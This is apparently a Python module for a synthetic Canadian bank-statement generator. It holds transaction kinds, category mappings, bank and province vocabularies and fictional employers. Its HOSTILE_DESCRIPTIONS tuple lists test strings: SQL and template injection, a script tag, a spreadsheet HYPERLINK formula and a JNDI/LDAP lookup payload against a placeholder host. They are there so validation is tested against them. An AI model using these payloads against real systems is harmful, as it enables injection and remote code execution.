"""The words banks print: transaction kinds, descriptions, institutions, places and people.

Descriptions are uppercase and terse, as Canadian retail banks print them on a statement, so the
downstream feature rules are exercised on wording they will meet in production. Every transaction
kind maps to one ``(Category, Subcategory)`` pair, the export's own enrichment.

Employers, people and streets are fictional: names are random combinations of common given names
and surnames, e-mail addresses use the reserved ``example.*`` domains, and employer names are
invented. Public bodies (Canada Revenue Agency benefits, utilities, telecoms, retailers, lenders)
keep their real names because the feature rules match on them.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import IntEnum

import numpy as np


class Kind(IntEnum):
    """What a transaction is, as the generator knows it (the ground truth reads these)."""

    PAYROLL = 0
    GOV_CHILD_BENEFIT = 1
    GOV_GST_CREDIT = 2
    GOV_EMPLOYMENT_INSURANCE = 3
    GIG_INCOME = 4
    ETRANSFER_IN = 5
    ETRANSFER_OUT = 6
    RENT = 7
    MORTGAGE = 8
    UTILITY = 9
    TELECOM = 10
    INSURANCE = 11
    SUBSCRIPTION = 12
    GROCERY = 13
    RESTAURANT = 14
    FUEL = 15
    RETAIL = 16
    ATM = 17
    LOAN_PAYMENT = 18
    MICRO_LENDER_ADVANCE = 19
    MICRO_LENDER_PAYMENT = 20
    CARD_PAYMENT = 21
    CARD_PAYMENT_RECEIVED = 22
    TRANSFER_OUT = 23
    TRANSFER_IN = 24
    INTEREST = 25
    NSF_FEE = 26
    OVERDRAFT_FEE = 27
    SERVICE_FEE = 28
    GAMBLING = 29


GOVERNMENT_KINDS = (Kind.GOV_CHILD_BENEFIT, Kind.GOV_GST_CREDIT, Kind.GOV_EMPLOYMENT_INSURANCE)

#: Pre-authorised debits: the items a bank returns or charges NSF on when the account is short.
PRE_AUTHORISED_KINDS = (
    Kind.RENT,
    Kind.MORTGAGE,
    Kind.UTILITY,
    Kind.TELECOM,
    Kind.INSURANCE,
    Kind.SUBSCRIPTION,
    Kind.LOAN_PAYMENT,
    Kind.MICRO_LENDER_PAYMENT,
    Kind.CARD_PAYMENT,
)

#: Ordinary purchases whose description can be swapped for hostile text without changing any
#: ground-truth figure.
NEUTRAL_KINDS = (Kind.RETAIL, Kind.RESTAURANT)

CATEGORIES: dict[Kind, tuple[str, str]] = {
    Kind.PAYROLL: ("Income", "Payroll"),
    Kind.GOV_CHILD_BENEFIT: ("Income", "Government Benefits"),
    Kind.GOV_GST_CREDIT: ("Income", "Government Benefits"),
    Kind.GOV_EMPLOYMENT_INSURANCE: ("Income", "Government Benefits"),
    Kind.GIG_INCOME: ("Income", "Self-Employment"),
    Kind.ETRANSFER_IN: ("Transfers", "E-Transfer Received"),
    Kind.ETRANSFER_OUT: ("Transfers", "E-Transfer Sent"),
    Kind.RENT: ("Housing", "Rent"),
    Kind.MORTGAGE: ("Housing", "Mortgage"),
    Kind.UTILITY: ("Bills & Utilities", "Utilities"),
    Kind.TELECOM: ("Bills & Utilities", "Phone & Internet"),
    Kind.INSURANCE: ("Bills & Utilities", "Insurance"),
    Kind.SUBSCRIPTION: ("Entertainment", "Subscriptions"),
    Kind.GROCERY: ("Food & Dining", "Groceries"),
    Kind.RESTAURANT: ("Food & Dining", "Restaurants"),
    Kind.FUEL: ("Transportation", "Gas & Fuel"),
    Kind.RETAIL: ("Shopping", "General Merchandise"),
    Kind.ATM: ("Cash", "ATM Withdrawal"),
    Kind.LOAN_PAYMENT: ("Loans", "Loan Payment"),
    Kind.MICRO_LENDER_ADVANCE: ("Loans", "Short-Term Loan"),
    Kind.MICRO_LENDER_PAYMENT: ("Loans", "Short-Term Loan"),
    Kind.CARD_PAYMENT: ("Transfers", "Credit Card Payment"),
    Kind.CARD_PAYMENT_RECEIVED: ("Transfers", "Credit Card Payment"),
    Kind.TRANSFER_OUT: ("Transfers", "Internal Transfer"),
    Kind.TRANSFER_IN: ("Transfers", "Internal Transfer"),
    Kind.INTEREST: ("Income", "Interest"),
    Kind.NSF_FEE: ("Fees", "NSF Fee"),
    Kind.OVERDRAFT_FEE: ("Fees", "Overdraft"),
    Kind.SERVICE_FEE: ("Fees", "Service Charge"),
    Kind.GAMBLING: ("Entertainment", "Gambling"),
}


class Vocabulary:
    """Every description the generator can print, each with its kind, addressed by integer id.

    Events carry a description id rather than a string, so millions of rows stay plain integer
    arrays until the writer renders them.
    """

    def __init__(self) -> None:
        self.texts: list[str] = []
        self.kinds: list[Kind] = []
        self._ids: dict[tuple[str, Kind], int] = {}

    def add(self, kind: Kind, texts: list[str] | tuple[str, ...]) -> np.ndarray:
        """Register descriptions of one kind; returns their ids (existing ones are reused)."""
        ids = []
        for text in texts:
            key = (text, kind)
            if key not in self._ids:
                self._ids[key] = len(self.texts)
                self.texts.append(text)
                self.kinds.append(kind)
            ids.append(self._ids[key])
        return np.asarray(ids, dtype=np.int32)

    def __len__(self) -> int:
        return len(self.texts)


@dataclass(frozen=True)
class Institution:
    """A bank as the export names it, with the wording it prints for its own products."""

    name: str
    account_digits: int
    card_brand: str
    mortgage: str
    loan: str
    nsf: str
    nsf_fee_cents: int
    monthly_fee: str


INSTITUTIONS: tuple[Institution, ...] = (
    Institution(
        "RBC Royal Bank", 7, "Visa", "MORTGAGE RBC", "LOANS EFT RBC LOAN PYMT",
        "NSF FEE NSF S/C", 4800, "MONTHLY FEE",
    ),
    Institution(
        "TD Canada Trust", 7, "Visa", "MORTGAGE PAYMENT TD", "TD LOAN PAYMENT",
        "NSF SERVICE CHARGE", 4800, "MONTHLY ACCOUNT FEE",
    ),
    Institution(
        "BMO", 7, "Mastercard", "BMO MORTGAGE PAYMENT", "BMO LOAN PAYMENT",
        "NSF FEE NSF S/C", 4800, "PLAN FEE",
    ),
    Institution(
        "Scotiabank", 12, "Visa", "SCOTIA MORTGAGE PAYMENT", "SCOTIA LOAN PAYMENT",
        "RETURNED ITEM FEE", 4800, "MONTHLY ACCOUNT FEE",
    ),
    Institution(
        "CIBC", 7, "Visa", "CIBC MORTGAGE PAYMENT", "CIBC LOAN PAYMENT",
        "NSF SERVICE CHARGE", 4500, "MONTHLY FEE",
    ),
    Institution(
        "Desjardins", 7, "Visa", "MORTGAGE PAYMENT DESJARDINS", "DESJARDINS LOAN PAYMENT",
        "RETURNED ITEM FEE", 4500, "MONTHLY SERVICE CHARGE",
    ),
    Institution(
        "National Bank", 11, "Mastercard", "NBC MORTGAGE PAYMENT", "NBC LOAN PAYMENT",
        "NSF FEE NSF S/C", 4500, "MONTHLY FEE",
    ),
)  # fmt: skip

#: Institution weights: Quebec banks mostly with Desjardins and National Bank, others with the
#: big five.
INSTITUTION_WEIGHTS_QUEBEC = (0.12, 0.08, 0.05, 0.05, 0.05, 0.42, 0.23)
INSTITUTION_WEIGHTS_ELSEWHERE = (0.24, 0.24, 0.15, 0.15, 0.15, 0.02, 0.05)


@dataclass(frozen=True)
class Province:
    """A province with the places, postal prefixes and public utilities its residents pay."""

    code: str
    weight: float
    postal_letters: str
    cities: tuple[str, ...]
    utilities: tuple[str, ...]
    telecoms: tuple[str, ...]
    lottery: str


PROVINCES: tuple[Province, ...] = (
    Province(
        "ON", 0.39, "KLMNP",
        ("Toronto", "Ottawa", "Mississauga", "Hamilton", "London", "Kitchener", "Windsor",
         "Sudbury", "Kingston", "Barrie"),
        ("TORONTO HYDRO", "HYDRO ONE", "ENBRIDGE GAS", "ALECTRA UTILITIES"),
        ("BELL CANADA", "ROGERS", "FIDO", "FREEDOM MOBILE"),
        "OLG",
    ),
    Province(
        "QC", 0.22, "GHJ",
        ("Montréal", "Québec", "Laval", "Gatineau", "Longueuil", "Sherbrooke", "Trois-Rivières",
         "Lévis", "Saguenay"),
        ("HYDRO QUEBEC", "ENERGIR"),
        ("VIDEOTRON", "BELL CANADA", "FIZZ", "TELUS"),
        "LOTO-QUEBEC",
    ),
    Province(
        "BC", 0.135, "V",
        ("Vancouver", "Surrey", "Burnaby", "Victoria", "Kelowna", "Richmond", "Nanaimo",
         "Kamloops"),
        ("BC HYDRO", "FORTISBC"),
        ("TELUS", "ROGERS", "KOODO", "SHAW"),
        "PLAYNOW BCLC",
    ),
    Province(
        "AB", 0.115, "T",
        ("Calgary", "Edmonton", "Red Deer", "Lethbridge", "St. Albert", "Medicine Hat"),
        ("ENMAX", "EPCOR", "ATCO GAS", "DIRECT ENERGY"),
        ("TELUS", "ROGERS", "SHAW", "KOODO"),
        "ALBERTA LOTTERIES",
    ),
    Province(
        "MB", 0.035, "R",
        ("Winnipeg", "Brandon", "Steinbach"),
        ("MANITOBA HYDRO",),
        ("BELL MTS", "ROGERS"),
        "PLAYNOW MB",
    ),
    Province(
        "SK", 0.03, "S",
        ("Saskatoon", "Regina", "Prince Albert"),
        ("SASKPOWER", "SASKENERGY"),
        ("SASKTEL", "ROGERS"),
        "WCLC",
    ),
    Province(
        "NS", 0.026, "B",
        ("Halifax", "Dartmouth", "Sydney", "Truro"),
        ("NOVA SCOTIA POWER",),
        ("BELL ALIANT", "EASTLINK"),
        "ALC",
    ),
    Province(
        "NB", 0.02, "E",
        ("Moncton", "Saint John", "Fredericton", "Dieppe"),
        ("NB POWER",),
        ("BELL ALIANT", "ROGERS"),
        "ALC",
    ),
    Province(
        "NL", 0.013, "A",
        ("St. John's", "Mount Pearl", "Corner Brook"),
        ("NEWFOUNDLAND POWER",),
        ("BELL ALIANT", "ROGERS"),
        "ALC",
    ),
    Province(
        "PE", 0.004, "C",
        ("Charlottetown", "Summerside"),
        ("MARITIME ELECTRIC",),
        ("EASTLINK", "BELL ALIANT"),
        "ALC",
    ),
)  # fmt: skip

#: Letters Canada Post uses in the second and third letter slots of a postal code.
POSTAL_LETTERS = "ABCEGHJKLMNPRSTVWXYZ"

STREETS_EN = (
    "Maple Avenue", "Oak Street", "Birchwood Drive", "Cedar Crescent", "Elm Road",
    "Willow Lane", "Pine Ridge Road", "Lakeshore Boulevard", "Queen Street", "King Street",
    "Highland Avenue", "Riverside Drive", "Hillcrest Road", "Meadowvale Court", "Spruce Way",
    "Aspen Grove", "Harbour Street", "Sunset Boulevard", "Poplar Place", "Chestnut Street",
)  # fmt: skip
STREETS_FR = (
    "rue des Érables", "rue Saint-Denis", "boulevard des Laurentides", "avenue du Parc",
    "rue Principale", "chemin du Lac", "rue de la Montagne", "boulevard René-Lévesque",
    "rue des Pins", "avenue des Bouleaux", "rue Notre-Dame", "rue du Moulin",
)  # fmt: skip

FIRST_NAMES = (
    "Olivia", "Liam", "Emma", "Noah", "Charlotte", "William", "Amelia", "Lucas", "Sophia",
    "Benjamin", "Chloé", "Félix", "Léa", "Gabriel", "Alice", "Samuel", "Zoé", "Mathis",
    "Priya", "Arjun", "Mei", "Wei", "Fatima", "Omar", "Aisha", "Hamza", "Maria", "Diego",
    "Nathalie", "Marc", "Isabelle", "Jean-Philippe", "Sarah", "Daniel", "Emily", "Ryan",
    "Jessica", "Kevin", "Ashley", "Tyler", "Hannah", "Ethan", "Maya", "Jordan", "Grace",
    "Aaliyah", "Raj", "Simran", "Thi", "Minh", "Kofi", "Ama", "Sofia", "Mateo",
)  # fmt: skip
LAST_NAMES = (
    "Tremblay", "Gagnon", "Roy", "Côté", "Bouchard", "Gauthier", "Morin", "Lavoie", "Fortin",
    "Gagné", "Ouellet", "Pelletier", "Smith", "Brown", "Wilson", "MacDonald", "Taylor",
    "Campbell", "Anderson", "Johnson", "Martin", "Thompson", "Young", "Li", "Wang", "Chen",
    "Zhang", "Singh", "Patel", "Sharma", "Nguyen", "Tran", "Kim", "Park", "Ahmed", "Khan",
    "Ali", "Hassan", "Rodriguez", "Garcia", "Silva", "Santos", "Rossi", "Russo", "Kowalski",
    "Novak", "O'Brien", "Murphy", "Walsh", "Mensah", "Okafor", "Haddad", "Dubois", "Leblanc",
)  # fmt: skip
EMAIL_DOMAINS = ("example.com", "example.net", "example.org", "mail.example.ca")

#: Fictional employers: (name as the export's Employer Name shows it, name as payroll prints it).
EMPLOYERS: tuple[tuple[str, str], ...] = (
    ("Northwind Harbour Logistics Inc.", "NORTHWIND HARBOUR"),
    ("Maplecrest Precision Manufacturing", "MAPLECREST PRECISION"),
    ("Boreal Lantern Health Services", "BOREAL LANTERN HLTH"),
    ("Laurentide Orchard Foods Ltd.", "LAURENTIDE ORCHARD"),
    ("Great Loon Freightways", "GREAT LOON FREIGHT"),
    ("Cedarholm Construction Group", "CEDARHOLM CONSTR"),
    ("Prairie Kestrel Care Homes", "PRAIRIE KESTREL CARE"),
    ("Harbourlight Hospitality Corp.", "HARBOURLIGHT HOSP"),
    ("Aurora Quillfeather Software", "AURORA QUILLFEATHER"),
    ("Distribution Saint-Ambroise Inc.", "DISTR ST-AMBROISE"),
    ("Bluewater Tinsmith Fabrication", "BLUEWATER TINSMITH"),
    ("Ironbark Mining Services", "IRONBARK MINING"),
    ("Silverbirch Property Management", "SILVERBIRCH PROP MGMT"),
    ("Coastal Heron Seafoods", "COASTAL HERON SEAFD"),
    ("Granite Fox Security Ltd.", "GRANITE FOX SECURITY"),
    ("Red Willow Retail Holdings", "RED WILLOW RETAIL"),
    ("Polaris Thimble Textiles", "POLARIS THIMBLE"),
    ("Foxglove Dental Partners", "FOXGLOVE DENTAL"),
    ("Timberwolf Auto Parts Inc.", "TIMBERWOLF AUTO"),
    ("Clearbrook School Services", "CLEARBROOK SCHOOL SVC"),
    ("Les Entreprises Vieux-Moulin", "ENTR VIEUX-MOULIN"),
    ("Quartzline Telecom Installers", "QUARTZLINE TELECOM"),
    ("Sundial Orchard Bakery", "SUNDIAL ORCHARD BKRY"),
    ("Kingfisher Plumbing & Heating", "KINGFISHER PLUMBING"),
    ("Amberfield Agricultural Co-op", "AMBERFIELD AGRI COOP"),
    ("Driftwood Marine Repair", "DRIFTWOOD MARINE"),
    ("Copperleaf Accounting LLP", "COPPERLEAF ACCT"),
    ("Nordique Lumière Électrique", "NORDIQUE LUMIERE"),
    ("Stonehaven Senior Living", "STONEHAVEN SENIOR"),
    ("Wildrose Courier Network", "WILDROSE COURIER"),
    ("Tamarack Pharmacy Group", "TAMARACK PHARMACY"),
    ("Juniper Lane Childcare", "JUNIPER LANE CHILDCR"),
    ("Bellwether Call Centre Solutions", "BELLWETHER CALL CTR"),
    ("Moosehorn Forestry Ltd.", "MOOSEHORN FORESTRY"),
    ("Gilded Acorn Hotels", "GILDED ACORN HOTELS"),
    ("Saltmarsh Fisheries Co.", "SALTMARSH FISHERIES"),
)  # fmt: skip

#: How payroll lines read at different banks; ``{}`` is the employer's printed name.
PAYROLL_TEMPLATES = ("PAYROLL DEPOSIT {}", "DIRECT DEPOSIT PAYROLL {}", "PAY {}")

GIG_PLATFORMS = (
    "UBER CANADA/UBERTRIP",
    "DOORDASH CANADA PAYOUT",
    "SKIPTHEDISHES COURIER PAY",
    "INSTACART SHOPPER PAY",
    "LYFT CANADA PAYOUT",
    "ETSY CANADA DEPOSIT",
)
GIG_ETRANSFER = ("INTERAC E-TRANSFER RECEIVED", "E-TRANSFER RECEIVED CLIENT PAYMENT")
ETRANSFER_IN = ("INTERAC E-TRANSFER RECEIVED", "E-TRANSFER RECEIVED", "INTERAC E-TRF RECEIVED")
ETRANSFER_OUT = ("INTERAC E-TRANSFER SENT", "E-TRANSFER SENT", "INTERAC E-TRF SENT")
RENT = ("RENT PAYMENT", "E-TRANSFER SENT LANDLORD", "INTERAC E-TRANSFER SENT LANDLORD")
CHILD_BENEFIT = ("CANADA CHILD BENEFIT", "CCB", "FED CANADA CHILD BENEFIT")
GST_CREDIT = ("GST CREDIT CANADA", "GST/HST CREDIT", "CANADA GST/HST CREDIT")
EMPLOYMENT_INSURANCE = ("EI CANADA", "EMPLOYMENT INSURANCE", "CANADA EI BENEFIT")
INSURERS = ("INTACT INSURANCE", "DESJARDINS INSURANCE", "BELAIRDIRECT", "SUN LIFE INSURANCE")
SUBSCRIPTIONS = ("NETFLIX.COM", "SPOTIFY", "DISNEY PLUS", "AMAZON PRIME CA", "APPLE.COM/BILL")
GROCERS = (
    "LOBLAWS", "METRO", "IGA", "SOBEYS", "MAXI", "NO FRILLS", "FOOD BASICS", "SAVE-ON-FOODS",
    "SUPER C", "COSTCO WHOLESALE", "WALMART SUPERCENTRE", "FARM BOY",
)  # fmt: skip
RESTAURANTS = (
    "TIM HORTONS", "MCDONALD'S", "STARBUCKS", "A&W", "SUBWAY", "PIZZA PIZZA", "HARVEY'S",
    "ST-HUBERT", "SWISS CHALET", "UBER EATS", "DOORDASH", "SKIPTHEDISHES", "MARY BROWN'S",
)  # fmt: skip
FUEL = ("PETRO-CANADA", "ESSO", "SHELL", "ULTRAMAR", "CO-OP GAS BAR", "HUSKY", "PIONEER")
RETAIL = (
    "CANADIAN TIRE", "SHOPPERS DRUG MART", "DOLLARAMA", "AMAZON.CA", "WINNERS", "BEST BUY",
    "HOME DEPOT", "IKEA", "SPORT CHEK", "JEAN COUTU", "PHARMAPRIX", "LONDON DRUGS",
    "HUDSON'S BAY", "STAPLES", "PETSMART", "INDIGO",
)  # fmt: skip
ATM = ("ATM WITHDRAWAL", "ABM WITHDRAWAL", "ATM WITHDRAWAL INTERAC")
MICRO_LENDERS = ("EASYFINANCIAL", "MONEY MART", "CASH MONEY", "ICASH", "SPEEDY CASH")
ONLINE_GAMBLING = ("BET99", "BET365 CANADA", "POKERSTARS CA")
CARD_PAYMENT_RECEIVED = ("PAYMENT - THANK YOU", "PAYMENT RECEIVED - THANK YOU")
SAVINGS_INTEREST = ("INTEREST", "INTEREST PAID")
OVERDRAFT_FEE = "OVERDRAFT FEE"
OVERDRAFT_INTEREST = "OD INTEREST"
TRANSFER_TO_SAVINGS = "TRANSFER TO SAVINGS"
TRANSFER_FROM_CHEQUING = "TFR-FR CHEQUING"
TRANSFER_TO_CHEQUING = "TRANSFER TO CHEQUING"
TRANSFER_FROM_SAVINGS = "TFR-FR SAVINGS"

CHEQUING_NAMES = ("Chequing", "Everyday Chequing", "Personal Chequing")
SAVINGS_NAMES = ("Savings", "High Interest Savings", "TFSA Savings")
CARD_NAME_PREFIXES = ("", "Cash Back ", "Rewards ")

#: Hostile but valid descriptions: quoting, SQL and template injection, spreadsheet formulas,
#: non-ASCII text and an embedded line break. They must pass validation unchanged.
HOSTILE_DESCRIPTIONS = (
    'O\'NEIL "THE CORNER" SHOP',
    "'; DROP TABLE x; --",
    "{{ 7*7 }}",
    "CAFÉ DÉPANNEUR ÇA VA ☕ 🍁",
    "LINE ONE\nLINE TWO",
    '=HYPERLINK("http://example.invalid","CLICK")',
    "<script>alert('x')</script>",
    "SMITH, JONES & SONS, LTD.",
    "${jndi:ldap://example.invalid/a}",
    "ROBERT'); DROP TABLE transactions;--",
)


def _ids(vocabulary: Vocabulary, kind: Kind, texts: tuple[str, ...] | list[str]) -> np.ndarray:
    return vocabulary.add(kind, list(texts))


@dataclass(frozen=True)
class Words:
    """Description ids grouped the way the event streams pick them."""

    vocabulary: Vocabulary
    payroll: np.ndarray  # (employers, templates)
    gig_platform: np.ndarray
    gig_etransfer: np.ndarray
    etransfer_in: np.ndarray
    etransfer_out: np.ndarray
    rent: np.ndarray
    mortgage: np.ndarray  # per institution
    loan: np.ndarray  # per institution
    nsf: np.ndarray  # per institution
    monthly_fee: np.ndarray  # per institution
    child_benefit: np.ndarray
    gst_credit: np.ndarray
    employment_insurance: np.ndarray
    utilities: list[np.ndarray]  # per province
    telecoms: list[np.ndarray]  # per province
    lottery: np.ndarray  # per province
    online_gambling: np.ndarray
    insurers: np.ndarray
    subscriptions: np.ndarray
    grocers: np.ndarray
    restaurants: np.ndarray
    fuel: np.ndarray
    retail: np.ndarray
    atm: np.ndarray
    micro_advance: np.ndarray  # per lender
    micro_payment: np.ndarray  # per lender
    card_payment: np.ndarray  # [Visa, Mastercard]
    card_payment_received: np.ndarray
    transfer_to_savings: int
    transfer_from_chequing: int
    transfer_to_chequing: int
    transfer_from_savings: int
    savings_interest: np.ndarray
    overdraft_fee: int
    overdraft_interest: int


def build_words() -> Words:
    """Register every description once, in a fixed order, so ids are stable across runs."""
    v = Vocabulary()
    payroll = np.stack(
        [
            _ids(v, Kind.PAYROLL, [t.format(short) for t in PAYROLL_TEMPLATES])
            for _, short in EMPLOYERS
        ]
    )
    return Words(
        vocabulary=v,
        payroll=payroll,
        gig_platform=_ids(v, Kind.GIG_INCOME, GIG_PLATFORMS),
        gig_etransfer=_ids(v, Kind.GIG_INCOME, GIG_ETRANSFER),
        etransfer_in=_ids(v, Kind.ETRANSFER_IN, ETRANSFER_IN),
        etransfer_out=_ids(v, Kind.ETRANSFER_OUT, ETRANSFER_OUT),
        rent=_ids(v, Kind.RENT, RENT),
        mortgage=_ids(v, Kind.MORTGAGE, [i.mortgage for i in INSTITUTIONS]),
        loan=_ids(v, Kind.LOAN_PAYMENT, [i.loan for i in INSTITUTIONS]),
        nsf=_ids(v, Kind.NSF_FEE, [i.nsf for i in INSTITUTIONS]),
        monthly_fee=_ids(v, Kind.SERVICE_FEE, [i.monthly_fee for i in INSTITUTIONS]),
        child_benefit=_ids(v, Kind.GOV_CHILD_BENEFIT, CHILD_BENEFIT),
        gst_credit=_ids(v, Kind.GOV_GST_CREDIT, GST_CREDIT),
        employment_insurance=_ids(v, Kind.GOV_EMPLOYMENT_INSURANCE, EMPLOYMENT_INSURANCE),
        utilities=[_ids(v, Kind.UTILITY, p.utilities) for p in PROVINCES],
        telecoms=[_ids(v, Kind.TELECOM, p.telecoms) for p in PROVINCES],
        lottery=_ids(v, Kind.GAMBLING, [p.lottery for p in PROVINCES]),
        online_gambling=_ids(v, Kind.GAMBLING, ONLINE_GAMBLING),
        insurers=_ids(v, Kind.INSURANCE, INSURERS),
        subscriptions=_ids(v, Kind.SUBSCRIPTION, SUBSCRIPTIONS),
        grocers=_ids(v, Kind.GROCERY, GROCERS),
        restaurants=_ids(v, Kind.RESTAURANT, RESTAURANTS),
        fuel=_ids(v, Kind.FUEL, FUEL),
        retail=_ids(v, Kind.RETAIL, RETAIL),
        atm=_ids(v, Kind.ATM, ATM),
        micro_advance=_ids(v, Kind.MICRO_LENDER_ADVANCE, [f"{m} ADVANCE" for m in MICRO_LENDERS]),
        micro_payment=_ids(v, Kind.MICRO_LENDER_PAYMENT, [f"{m} PAYMENT" for m in MICRO_LENDERS]),
        card_payment=_ids(v, Kind.CARD_PAYMENT, ("VISA PAYMENT", "MASTERCARD PAYMENT")),
        card_payment_received=_ids(v, Kind.CARD_PAYMENT_RECEIVED, CARD_PAYMENT_RECEIVED),
        transfer_to_savings=int(_ids(v, Kind.TRANSFER_OUT, [TRANSFER_TO_SAVINGS])[0]),
        transfer_from_chequing=int(_ids(v, Kind.TRANSFER_IN, [TRANSFER_FROM_CHEQUING])[0]),
        transfer_to_chequing=int(_ids(v, Kind.TRANSFER_OUT, [TRANSFER_TO_CHEQUING])[0]),
        transfer_from_savings=int(_ids(v, Kind.TRANSFER_IN, [TRANSFER_FROM_SAVINGS])[0]),
        savings_interest=_ids(v, Kind.INTEREST, SAVINGS_INTEREST),
        overdraft_fee=int(_ids(v, Kind.OVERDRAFT_FEE, [OVERDRAFT_FEE])[0]),
        overdraft_interest=int(_ids(v, Kind.OVERDRAFT_FEE, [OVERDRAFT_INTEREST])[0]),
    )


WORDS = build_words()
